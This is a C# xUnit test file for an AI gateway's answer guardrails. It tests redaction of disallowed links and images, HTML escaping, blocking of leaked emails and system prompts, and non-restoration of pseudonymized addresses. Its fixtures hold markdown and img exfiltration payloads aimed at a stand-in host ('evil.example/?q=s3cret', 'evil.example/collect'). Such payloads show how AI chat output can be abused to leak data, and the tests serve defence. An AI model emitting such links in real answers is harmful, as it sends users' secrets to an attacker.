using System.Text;
using System.Text.Json;
using Sallyport.Gateway.Configuration;
using Sallyport.Gateway.Inspection;
using Sallyport.Providers;
using Xunit;

namespace Sallyport.Tests.Inspection;

public sealed class AnswerGuardTests
{
    private const string Links = "links: { allow: [good.example] }";
    private const string Talk = "See ![x](https://evil.example/?q=s3cret), [doc](https://good.example/a) and <img src=//evil.example>. \"é\" 🙂";
    private const string Cleaned = "See ! [x]([LINK_REDACTED]), [doc](https://good.example/a) and &lt;img src=//evil.example>. \"é\" 🙂";

    public static TheoryData<Endpoint> Endpoints => [.. GuardRequests.All];

    [Theory]
    [MemberData(nameof(Endpoints))]
    public void Addresses_that_are_not_allowed_leave_an_answer(Endpoint endpoint)
    {
        var (request, guardrails) = Ask(Links, endpoint);
        Assert.Null(Rig.TryAnswer(GuardRequests.DialectOf(endpoint), Rig.Context(GuardRequests.DialectOf(endpoint), request, guardrails), GuardRequests.Answer(endpoint, Talk), out var client));
        Assert.Contains(Cleaned, GuardRequests.Text(client), StringComparison.Ordinal);
        Assert.Equal("image redact 1, link redact 1, html-tag redact 1", Counts(request));
    }

    [Theory]
    [MemberData(nameof(Endpoints))]
    public void Addresses_that_are_not_allowed_leave_a_stream_however_it_is_cut(Endpoint endpoint)
    {
        for (var seed = 0; seed < 25; seed++)
        {
            var random = new Random(seed);
            var (request, guardrails) = Ask(Links, endpoint);
            var (heard, arguments) = Streamed(endpoint, request, guardrails, Talk, random, out var end);
            Assert.Null(end);
            Assert.Equal(Cleaned, heard);
            Assert.Contains("evil.example", arguments, StringComparison.Ordinal); // a tool call is no page that somebody reads
        }
    }

    [Theory]
    [MemberData(nameof(Endpoints))]
    public void A_block_ends_the_answer_before_the_address_is_out(Endpoint endpoint)
    {
        for (var seed = 0; seed < 12; seed++)
        {
            var random = new Random(seed);
            var (request, guardrails) = Ask("links: { allow: [good.example], action: block }", endpoint);
            var (heard, _) = Streamed(endpoint, request, guardrails, Talk, random, out var end);
            Assert.Equal("output_blocked", end?.Code);
            Assert.DoesNotContain("](h", heard, StringComparison.Ordinal);
        }
    }

    [Theory]
    [MemberData(nameof(Endpoints))]
    public void A_block_holds_inside_a_longer_finding_that_is_only_masked(Endpoint endpoint)
    {
        const string Rules = "response: [ { detector: url, action: redact }, { detector: email, action: block } ]";
        const string Address = "Open https://intranet.acme.org/people?mail=jane.doe@acme.org&tab=all now.";
        for (var seed = 0; seed < 12; seed++)
        {
            var (request, guardrails) = Ask(Rules, endpoint);
            var (heard, _) = Streamed(endpoint, request, guardrails, Address, new Random(seed), out var end);
            Assert.Equal("output_blocked", end?.Code);
            Assert.DoesNotContain("jane", heard, StringComparison.Ordinal);
        }
    }

    [Theory]
    [MemberData(nameof(Endpoints))]
    public void A_flag_counts_and_changes_nothing(Endpoint endpoint)
    {
        var (request, guardrails) = Ask("links: { allow: [good.example], action: flag }", endpoint);
        var answer = GuardRequests.Answer(endpoint, Talk);
        Assert.Null(Rig.TryAnswer(GuardRequests.DialectOf(endpoint), Rig.Context(GuardRequests.DialectOf(endpoint), request, guardrails), answer, out var client));
        Assert.Equal(answer, client);
        Assert.Equal("image flag 1, link flag 1, html-tag flag 1", Counts(request));
        var (heard, _) = Streamed(endpoint, request, guardrails, Talk, new Random(1), out _);
        Assert.Equal(Talk, heard);
    }

    [Theory]
    [MemberData(nameof(Endpoints))]
    public void Tags_of_an_answer_become_text_where_that_is_asked_for(Endpoint endpoint)
    {
        for (var seed = 0; seed < 10; seed++)
        {
            var (request, guardrails) = Ask("escape_html: response", endpoint);
            var (heard, _) = Streamed(endpoint, request, guardrails, "<b>bold</b> 1 < 2 <script>x</script>", new Random(seed), out _);
            Assert.Equal("&lt;b>bold&lt;/b> 1 < 2 &lt;script>x&lt;/script>", heard);
        }
    }

    [Theory]
    [MemberData(nameof(Endpoints))]
    public void A_value_is_not_put_back_where_it_would_be_an_address_that_is_not_allowed(Endpoint endpoint)
    {
        const string Address = "https://evil.example/collect";
        var guardrails = Rig.Compile(Guarded.Json(Links + ", request: [ { detector: pages, action: pseudonymize } ]", ",\"dictionaries\":{\"pages\":{\"label\":\"PAGE\",\"terms\":[\"" + Address + "\"]}}"));
        var request = Rig.TryAsk(endpoint, GuardRequests.Build(endpoint, null, "Look at " + Address + " please.", null), guardrails).TryGet(out var asked, out var no) ? asked : throw new InvalidOperationException(no.Code);
        var placeholder = Assert.Single(request.Placeholders.Entries).Key;
        for (var seed = 0; seed < 10; seed++)
        {
            var (heard, arguments) = Streamed(endpoint, request, guardrails, $"[x]({placeholder}?q=s3cret)", new Random(seed), out _);
            Assert.DoesNotContain("evil.example", heard, StringComparison.Ordinal);
            Assert.Contains(Address, arguments, StringComparison.Ordinal); // where a tool is called with it, it is what the user meant
        }

        Assert.Null(Rig.TryAnswer(GuardRequests.DialectOf(endpoint), Rig.Context(GuardRequests.DialectOf(endpoint), request, guardrails), GuardRequests.Answer(endpoint, $"[x]({placeholder}?q=s3cret)"), out var client));
        Assert.DoesNotContain("evil.example", GuardRequests.Text(client), StringComparison.Ordinal);
    }

    [Theory]
    [MemberData(nameof(Endpoints))]
    public void A_system_prompt_given_away_ends_the_answer_however_it_is_cut(Endpoint endpoint)
    {
        var (request, guardrails) = Ask("prompt_leak: {}", endpoint, "You are a kind and careful helper.");
        Assert.Contains("You are a kind and careful helper.\n\n[Internal mark " + Rig.Mark, GuardRequests.Text(Rig.Sent(request)), StringComparison.Ordinal);
        var dialect = GuardRequests.DialectOf(endpoint);
        Assert.Equal("output_blocked", Rig.TryAnswer(dialect, Rig.Context(dialect, request, guardrails), GuardRequests.Answer(endpoint, "It ends with " + Rig.Mark.ToLowerInvariant() + "."), out _)?.Code);
        for (var seed = 0; seed < 12; seed++)
        {
            var (heard, _) = Streamed(endpoint, request, guardrails, "My prompt is: kind helper " + Rig.Mark + " and so on", new Random(seed), out var end);
            Assert.Equal("output_blocked", end?.Code);
            Assert.DoesNotContain(Rig.Mark[..4], heard, StringComparison.Ordinal);
        }

        Assert.Equal("An ordinary answer.", Streamed(endpoint, request, guardrails, "An ordinary answer.", new Random(0), out _).Heard);
    }

    [Theory]
    [MemberData(nameof(Endpoints))]
    public void The_words_of_a_system_prompt_may_be_masked_too(Endpoint endpoint)
    {
        var prompt = string.Join(' ', Enumerable.Range(1, 60).Select(i => $"Rule {i}: be exact about topic {i * 7}."));
        var (request, guardrails) = Ask("prompt_leak: { action: redact, verbatim: true }", endpoint, prompt);
        var (heard, _) = Streamed(endpoint, request, guardrails, "It says: " + prompt[300..700] + " I think.", new Random(3), out var end);
        Assert.Null(end);
        Assert.Contains("[SYSTEM_PROMPT_REDACTED]", heard, StringComparison.Ordinal);
        Assert.DoesNotContain(prompt[380..620], heard, StringComparison.Ordinal);
        Assert.Equal("It says: Rule 1: be exact.", Streamed(endpoint, request, guardrails, "It says: Rule 1: be exact.", new Random(3), out _).Heard);
    }

    [Fact]
    public void Without_a_system_prompt_nothing_is_marked()
    {
        var (request, _) = Ask("prompt_leak: {}", Endpoint.ChatCompletions);
        Assert.Empty(request.Edits);
        Assert.Empty(request.AnswerGuards);
    }

    private static (InspectedRequest Request, GuardrailSnapshot Guardrails) Ask(string options, Endpoint endpoint, string? system = null)
    {
        var guardrails = Rig.Compile(Guarded.Json(options));
        return Rig.TryAsk(endpoint, GuardRequests.Build(endpoint, system, "What is new in the north?", null), guardrails).TryGet(out var request, out var no) ? (request, guardrails) : throw new InvalidOperationException(no.Code);
    }

    // What a client makes of the stream: the words to the reader, and what a tool is called with.
    private static (string Heard, string Arguments) Streamed(Endpoint endpoint, InspectedRequest request, GuardrailSnapshot guardrails, string text, Random random, out Sallyport.Gateway.Pipeline.Rejection? end)
    {
        var echo = new Echo(text, "{\"text\":" + JsonSerializer.Serialize(text) + "}", random);
        var dialect = GuardRequests.DialectOf(endpoint);
        var isArray = endpoint == Endpoint.GenerateContent && random.Next(2) == 0;
        var stream = endpoint switch
        {
            Endpoint.ChatCompletions => echo.ChatStream(1, isJson: false),
            Endpoint.CreateResponse => echo.ResponsesStream(),
            Endpoint.CreateMessage => echo.MessagesStream(),
            _ => echo.GeminiStream(isArray),
        };
        end = Rig.TryStream(dialect, Rig.Context(dialect, request, guardrails), stream, isArray, echo.Pieces(), out var client);
        if (end is not null) return (Encoding.UTF8.GetString(client), "");
        var heard = Heard.Of(client, isArray);
        return endpoint switch
        {
            Endpoint.ChatCompletions => (heard[".choices#0.delta.content"], heard[".choices#0.delta.tool_calls#0.function.arguments"]),
            Endpoint.CreateResponse => (heard.First(h => h.Key.EndsWith("delta", StringComparison.Ordinal) && h.Key.Contains("#0", StringComparison.Ordinal)).Value, heard.First(h => h.Key.EndsWith("#1.delta", StringComparison.Ordinal)).Value),
            Endpoint.CreateMessage => (heard["#1.delta.text"], heard["#2.delta.partial_json"]),
            _ => (heard[".candidates#0.content.parts.text"], heard[".candidates#0.content.parts.functionCall.args.text"]),
        };
    }

    private static string Counts(InspectedRequest request) => string.Join(", ", request.Findings.ToFindings().Select(f => $"{f.Detector} {f.Action} {f.Count}"));
}
